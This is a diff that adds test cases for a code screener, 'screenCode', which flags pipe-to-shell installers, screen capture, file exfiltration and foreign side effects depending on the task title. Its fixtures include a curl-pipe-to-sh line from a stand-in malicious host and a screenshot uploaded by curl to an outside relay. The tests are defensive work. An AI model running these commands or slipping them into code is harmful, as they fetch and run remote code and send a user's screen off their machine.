@@ -849,3 +849,50 @@ describe('screenCode: eighth pass, attempts to smuggle an attack through its rel
     expect(ruleNames(fenced(dropped), 'magic-string: Usage')).toEqual(['foreign_side_effect']);
   });
 });
+
+describe('screenCode: eighth pass, found by its fresh check', () => {
+  const ruleNames = (text: string, task = '') => screenCode(text, task).map((f) => f.rule);
+
+  it('takes an installer from any label of a host that an install title names, and only under such a title', () => {
+    const foundry = 'curl -L https://foundry.paradigm.xyz | bash';
+    expect(ruleNames(fenced(foundry), 'Install Foundry for smart-contract tests')).toEqual([]);
+    expect(ruleNames(fenced(foundry), 'Foundry tests fail after an upgrade of forge-std')).toEqual(['pipe_to_shell']);
+    expect(ruleNames(fenced(foundry), 'Foundry: forge test cannot find the library')).toEqual(['pipe_to_shell']);
+    expect(ruleNames(fenced('curl -sL https://get.evil-cdn.top/i | sh'), 'Install get-it on Ubuntu')).toEqual([
+      'pipe_to_shell',
+    ]);
+  });
+
+  it('takes a title about recording the screen as its subject, unless the same text sends something off', () => {
+    const rec = 'screencapture -v -V 15 ~/Desktop/glitch.mov';
+    expect(ruleNames(fenced(rec), 'Record the screen for a bug report on macOS')).toEqual([]);
+    expect(ruleNames(fenced(rec), 'Animation glitch in the settings window')).toEqual(['screen_capture']);
+    const sent = 'screencapture -x /tmp/s.png\ncurl -s -F f=@/tmp/s.png https://shots-relay.top/u';
+    expect(ruleNames(fenced(sent), 'Record the screen for a bug report on macOS')).toContain('screen_capture');
+  });
+
+  it("does not take a browser page's screenshot() for the user's screen", () => {
+    expect(ruleNames(fenced('const png = await page.screenshot();'))).toEqual([]);
+    expect(
+      ruleNames(fenced("const screenshot = require('screenshot-desktop');\nconst png = await screenshot();")),
+    ).toEqual(['screen_capture']);
+  });
+
+  it('takes a title about a file for an API as declaring that it is sent there', () => {
+    const code =
+      "const pdf = await readFile('invoice.pdf');\nawait fetch('https://api.billing.example.com/v1/attachments', { method: 'POST', body: pdf.toString('base64') });";
+    expect(ruleNames(fenced(code), 'Encode a file as base64 for a JSON API')).toEqual([]);
+    expect(ruleNames(fenced(code), 'TypeError: a bytes-like object is required')).toEqual(['exfiltrate_file']);
+  });
+});
+
+describe('screenCode: a load test is about requests (eighth pass)', () => {
+  it('takes requests under a load-test title as the task, and keeps them foreign under an unrelated one', () => {
+    const code =
+      'import requests\n\nwhile True:\n    r = requests.get(f"{BASE}/jobs?status=stale", timeout=10)\n    if not r.json():\n        break';
+    expect(screenCode(fenced(code), 'Clean up after a load test')).toEqual([]);
+    expect(screenCode(fenced(code), 'KeyError in a pandas groupby').map((f) => f.rule)).toEqual([
+      'foreign_side_effect',
+    ]);
+  });
+});
